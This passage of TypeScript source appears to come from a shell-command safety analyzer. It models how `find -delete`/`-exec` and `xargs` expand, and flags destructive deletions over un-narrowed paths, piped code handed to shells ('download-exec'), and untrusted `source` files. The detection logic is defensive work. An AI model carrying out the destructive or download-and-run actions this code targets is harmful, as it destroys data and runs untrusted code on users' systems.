      this.finding(kind ?? 'source-untrusted', `source of a file computed at run time: ${file.text}`, raw);
      return;
    }
    if (untrusted(file.value, home)) this.finding('source-untrusted', `source of ${file.value}`, raw);
  }

  find(words: StaticWord[], redirects: ShellRedirect[], ctx: Ctx, raw: string): void {
    const rest = words.slice(1);
    const starts: string[] = [];
    let i = 0;
    for (; i < rest.length; i++) {
      const v = rest[i]?.value ?? '';
      if (/^-[HLP]$/.test(v)) continue;
      if (v.startsWith('-') || v === '(' || v === '!' || v === ')') break;
      starts.push(v);
    }
    if (starts.length === 0) starts.push('.');
    const expr = rest.slice(i).map((w) => w.value);
    const narrowed = expr.some((v, k) =>
      /^\*+$/.test(expr[k + 1] ?? '')
        ? false
        : /^-(i?name|i?path|i?wholename|i?regex|newer.*|[acm](time|min)|size|user|group|uid|gid|perm|empty|links|inum|samefile|i?lname)$/.test(
            v,
          ),
    );
    const cwd = ctx.scope.cwd;
    const resolvedStarts = starts.map((s) => resolvePath(s, cwd));
    // `find` itself: -delete acts on the start paths when nothing narrows the match.
    const flags = new Set<string>();
    for (const v of expr) if (/^-(delete|exec|execdir|ok|okdir)$/.test(v)) flags.add(v.slice(1));
    // -exec of a destroying command over every file below an un-narrowed start path destroys that tree.
    expr.forEach((v, k) => {
      if (/^-(exec|execdir|ok|okdir)$/.test(v) && DESTROYERS.has(basename(expr[k + 1] ?? '')))
        flags.add('destroy');
    });
    const cmd: SimpleCommand = {
      name: 'find',
      argv: rest.map((w) => w.value),
      args: starts,
      flags: [...flags, ...(narrowed ? ['narrowed'] : [])].sort(),
      options: {},
      raw,
      redirects,
      wrappers: ctx.wrappers,
      targets: (flags.has('delete') || flags.has('destroy')) && !narrowed ? resolvedStarts : [],
      writes: redirects.filter((r) => r.write).map((r) => r.target),
      reads: [],
      dynamicArgs: rest.filter((w) => w.dynamic).map((w) => w.text),
      globArgs: [],
      readOnly: flags.size === 0 && !expr.some((v) => /^-(fprint|fprint0|fprintf|fls)$/.test(v)),
      ...(cwd !== undefined ? { cwd } : {}),
    };
    this.commands.push(cmd);
    if ((flags.has('delete') || flags.has('destroy')) && !narrowed && cwd === undefined) {
      for (const st of starts) {
        if (/^(\.|\.\.|\*|\.\/?)$/.test(st))
          this.finding('dynamic-target', `find ${st} -delete in an unknown directory`, raw);
      }
    }
    // Each -exec/-execdir/-ok: the inner command with {} standing for what find visits.
    for (let k = i; k < rest.length; k++) {
      const v = rest[k]?.value ?? '';
      if (!/^-(exec|execdir|ok|okdir)$/.test(v)) continue;
      const inner: StaticWord[] = [];
      let j = k + 1;
      for (; j < rest.length; j++) {
        const x = rest[j];
        if (!x || ((x.value === ';' || x.value === '+') && inner.length > 0)) break;
        inner.push(x);
      }
      k = j;
      for (const start of resolvedStarts.slice(0, 4)) {
        const sub = narrowed ? `${start === '/' ? '' : start}/{}` : start;
        const replaced = inner.map((w) =>
          w.value.includes('{}') ? { ...w, value: w.value.split('{}').join(sub) } : w,
        );
        this.words(replaced, [], { ...ctx, wrappers: [...ctx.wrappers, `find -${v.slice(1)}`] }, raw);
      }
    }
  }

  xargs(
    inner: StaticWord[],
    replace: string | undefined,
    redirects: ShellRedirect[],
    ctx: Ctx,
    raw: string,
  ): void {
    const items = this.stdinItems(ctx);
    const runner = basename(inner[0]?.value ?? '');
    if (ctx.stdin?.kind === 'pipe' && (SHELLS.has(runner) || runner === 'eval' || interpreterKind(runner))) {
      // xargs hands piped text to a shell: what feeds it matters like `… | sh`.
      const kind = this.probe(ctx.stdin.stages, ctx);
      if (kind)
        this.finding(
          kind,
          `xargs ${runner} runs code from ${kind === 'download-exec' ? 'the network' : 'a decoder'}`,
          raw,
        );
    }
    const cmdWords: StaticWord[] = inner.length > 0 ? inner : [plain('echo')];
    if (replace !== undefined) {
      for (const item of items) {
        const replaced = cmdWords.map((w) =>
          w.value.includes(replace)
            ? {
                ...w,
                value: w.value.split(replace).join(item.value),
                dynamic: w.dynamic || item.dynamic,
                dynamicAt: item.dynamic ? 0 : w.dynamicAt,
              }
            : w,
        );
        this.words(replaced, redirects, { ...ctx, stdin: undefined }, raw);
      }
      return;
    }
    this.words([...cmdWords, ...items], redirects, { ...ctx, stdin: undefined }, raw);
  }

  /** What `xargs` would read: echoed words, find's start paths, or an unknown value. */
  stdinItems(ctx: Ctx): StaticWord[] {
    const stdin = ctx.stdin;
    const unknown = [{ ...plain('$XARGS_INPUT'), dynamic: true, dynamicAt: 0 }];
    if (!stdin) return unknown;
    if (stdin.kind === 'text' && !stdin.word.dynamic)
      return stdin.word.value.split(/\s+/).filter(Boolean).map(plain);
    if (stdin.kind !== 'pipe') return unknown;
    const texts = echoedText(stdin.stages, ctx);
    if (texts?.[0] !== undefined) return texts[0].split(/\s+/).filter(Boolean).map(plain);
    const last = stdin.stages[stdin.stages.length - 1];
    if (last?.type === 'Command' && last.name?.value === 'ls') {
      const words: StaticWord[] = [];
      for (const w of last.args) if (w.type === 'Word') words.push(...evalWord(w, ctx.scope));
      if (!words.some((w) => w.dynamic)) {
        const dirFlag = words.some((w) => /^-[a-zA-Z]*d/.test(w.value));
        const paths = words.filter((w) => !w.value.startsWith('-')).map((w) => w.value);
        if (paths.length === 0) paths.push('.');
        return paths.map((p) => {
          const abs = resolvePath(p, ctx.scope.cwd);
          return plain(dirFlag ? abs : `${abs === '/' ? '' : abs}/*`);
        });
      }
    }
    if (last?.type === 'Command' && last.name?.value === 'find') {
      const sub = this.child();
      sub.visit(last, { ...ctx, stdin: undefined, wrappers: [] });
      const f = sub.commands.find((c) => c.name === 'find');
      if (f) {
        const narrowed = f.flags.includes('narrowed');
        return f.args.map((s) => {
          const abs = resolvePath(s, ctx.scope.cwd);
          return plain(narrowed ? `${abs === '/' ? '' : abs}/{}` : abs);
        });
      }
    }
    return unknown;
  }
}

/** Single-quote a word for re-parsing. */
function quote(v: string): string {
  return /^[\w@%+=:,./-]+$/.test(v) ? v : `'${v.replace(/'/g, `'\\''`)}'`;
}

function plain(value: string): StaticWord {
  return {
    value,
    text: value,
    dynamic: false,
    glob: false,
    indirect: false,
    dynamicAt: -1,
    scripts: [],
    procsub: false,
  };
}

function copyScope(s: Scope): Scope {
  return {
    vars: new Map(s.vars),
    home: s.home,
    cwd: s.cwd,
    ...(s.cwdSure !== undefined ? { cwdSure: s.cwdSure } : {}),
    ...(s.pendingCd !== undefined ? { pendingCd: s.pendingCd } : {}),
    functions: new Map(s.functions),
    aliases: new Map(s.aliases),
  };
}

function slice(src: string, node: { pos: number; end: number }): string {
  return src.slice(node.pos, node.end);
}

function basename(p: string): string {
  const i = p.lastIndexOf('/');
  return i >= 0 && i < p.length - 1 ? p.slice(i + 1) : p;
}

function stdinFromRedirects(list: readonly Redirection[], ctx: Ctx): Stdin | undefined {
  let out: Stdin | undefined;
  for (const r of list) {
    if (r.type === 'HereString' && r.target) {
      const [w] = evalWord(r.target, ctx.scope);
      if (w) out = { kind: 'text', word: w };
    } else if (r.type === 'HereDoc') {
      out = { kind: 'heredoc', text: r.body.text };
    } else if (r.type === 'Redirect' && r.operator === '<' && r.target && !r.descriptor) {
      const [w] = evalWord(r.target, ctx.scope);
      if (w) out = { kind: 'file', word: w };
    }
  }
  return out;
}

/** Text printed by a pipeline's previous stage when it is a static echo/printf (both escape readings). */
function echoedText(stages: SyntaxNode[], ctx: Ctx): string[] | undefined {
  if (stages.length !== 1) return undefined;
  const stage = stages[0];
  if (stage?.type !== 'Command' || !stage.name) return undefined;
  const words: StaticWord[] = [];
  for (const w of [stage.name, ...stage.args]) if (w.type === 'Word') words.push(...evalWord(w, ctx.scope));
  if (words.some((w) => w.dynamic)) return undefined;
  const [name, ...rest] = words.map((w) => w.value);
  if (name === 'echo') {
    while (rest[0] && /^-[neE]+$/.test(rest[0])) rest.shift();
    const text = rest.join(' ');
    return text.includes('\\') ? [text, decodeEscapes(text)] : [text];
  }
  if (name === 'printf' && rest.length >= 1) {
    const fmt = rest[0] ?? '';
    const args = rest.slice(1);
    let k = 0;
    const text = decodeEscapes(fmt.replace(/%[sbd]/g, () => args[k++] ?? ''));
    return [k < args.length ? `${text} ${args.slice(k).join(' ')}` : text];
  }
  return undefined;
}

/** Scripts inside a dynamic word: do they download or decode? */
function classifyScripts(scripts: ParsedScript[], parent: Analyzer): FindingKind | undefined {
  let out: FindingKind | undefined;
  for (const script of scripts) {
    let kind = parent.classified.get(script);
    if (kind === undefined) {
      const sub = parent.child();
      const scope: Scope = {
        vars: new Map(),
        home: '/root',
        cwd: undefined,
        functions: new Map(),
        aliases: new Map(),
      };
      sub.visit(script, { scope, wrappers: [], depth: 1, src: script.source ?? '' });
      kind =
        classifyCommands(sub.commands) ??
        (sub.findings.some((f) => f.kind === 'download-exec') ? 'download-exec' : null);
      parent.classified.set(script, kind);
    }
    if (kind === 'download-exec') return kind;
    if (kind) out = kind;
  }
  return out;
}
